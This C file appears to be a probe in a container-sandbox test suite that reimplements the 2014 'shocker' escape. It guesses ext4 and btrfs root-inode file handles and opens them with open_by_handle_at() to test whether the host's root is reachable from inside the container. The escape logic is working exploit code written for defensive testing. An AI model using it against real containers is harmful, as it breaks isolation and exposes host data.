/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* shocker: the 2014 "shocker" escape. open_by_handle_at() turns a file handle into an open file
 * without any path lookup, so a guessed handle for the root inode of the file system the
 * container's root lives on opens the host's root directory, beyond the container's root.
 *
 * Keys: h2n= name_to_handle_at("/") and the handle type it gave (informational); own=
 * open_by_handle_at() of that handle (a guessed ext4 root handle when there is none); host= the
 * guesses for the host's root: ext4/ext2/ext3 inode 2 (FILEID_INO32_GEN, generation 0, which
 * ext4 takes as "any"), btrfs inode 256 of the top-level subvolume 5 (FILEID_BTRFS_WITHOUT_PARENT,
 * generations 0…15), tried through "/" and through every ext4/btrfs mount we can see: escaped
 * when one opened a directory outside our root, inside when one opened only our own, else the
 * errno of the first attempt (the ext4 guess through "/"). ALLOWED on escaped.
 * Harmless: directories are opened read-only and only fstat()ed. */
#include "hostile.h"

#include <sys/syscall.h>

#define FILEID_INO32_GEN 1
#define FILEID_BTRFS_WITHOUT_PARENT 0x4d

struct handle {
        struct file_handle fh;
        unsigned char buf[MAX_HANDLE_SZ];
};

static int first_err;
static bool escaped, inside;
static char how[64];

static void try(int mount_fd, const struct handle *h, const char *label) {
        int fd = open_by_handle_at(mount_fd, (struct file_handle *) &h->fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) {
                if (!first_err)
                        first_err = errno;
                return;
        }
        char p[64];
        snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
        int r = h_outside_root(p);
        if (r == 1) {
                escaped = true;
                snprintf(how, sizeof(how), "%s", label);
        } else if (r == 0)
                inside = true;
        else if (!first_err)
                first_err = -r;
        close(fd);
}

static void guesses(int mount_fd) {
        struct handle h = {};
        h.fh.handle_type = FILEID_INO32_GEN;
        h.fh.handle_bytes = 8;
        unsigned ino_gen[2] = {2, 0};
        memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
        try(mount_fd, &h, "ext4-ino2");

        for (unsigned gen = 0; gen < 16 && !escaped; gen++) {
                struct __attribute__((packed)) {
                        unsigned long long objectid, root_objectid;
                        unsigned gen;
                } b = {256, 5, gen};
                memset(&h, 0, sizeof(h));
                h.fh.handle_type = FILEID_BTRFS_WITHOUT_PARENT;
                h.fh.handle_bytes = sizeof(b);
                memcpy(h.fh.f_handle, &b, sizeof(b));
                char label[32];
                snprintf(label, sizeof(label), "btrfs-ino256-gen%u", gen);
                try(mount_fd, &h, label);
        }
}

int main(void) {
        h_init("shocker");
        int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (root < 0)
                h_bug("open /: %m");

        struct handle own = {};
        own.fh.handle_bytes = MAX_HANDLE_SZ;
        int mnt_id;
        if (name_to_handle_at(AT_FDCWD, "/", &own.fh, &mnt_id, 0) == 0)
                h_kv("h2n", "ok(type=0x%x)", own.fh.handle_type);
        else {
                h_kv("h2n", "%s", h_errname(errno));
                struct stat st;
                (void) fstat(root, &st);
                own.fh.handle_type = FILEID_INO32_GEN;
                own.fh.handle_bytes = 8;
                unsigned ino_gen[2] = {(unsigned) st.st_ino, 0};
                memcpy(own.fh.f_handle, ino_gen, sizeof(ino_gen));
        }
        int fd = open_by_handle_at(root, &own.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        h_res("own", fd, errno);
        if (fd >= 0)
                close(fd);

        guesses(root);
        /* Every ext4/btrfs mount we can see is another way to name that file system. */
        FILE *f = fopen("/proc/self/mountinfo", "re");
        char line[4096];
        while (f && fgets(line, sizeof(line), f) && !escaped) {
                char mp[1024], type[64];
                char *sep = strstr(line, " - ");
                if (!sep || sscanf(line, "%*d %*d %*s %*s %1023s", mp) != 1 || sscanf(sep + 3, "%63s", type) != 1)
                        continue;
                if (strcmp(type, "ext4") && strcmp(type, "ext3") && strcmp(type, "ext2") && strcmp(type, "btrfs"))
                        continue;
                int m = open(mp, O_RDONLY | O_CLOEXEC | O_NOFOLLOW | O_NONBLOCK | O_NOCTTY);
                if (m < 0)
                        m = open(mp, O_PATH | O_CLOEXEC);
                if (m < 0)
                        continue;
                guesses(m);
                close(m);
        }
        if (f)
                fclose(f);

        if (escaped) {
                h_kv("host", "escaped(%s)", how);
                h_allow("host");
        } else if (inside)
                h_kv("host", "inside");
        else
                h_kv("host", "%s", h_errname(first_err));
        h_done();
}
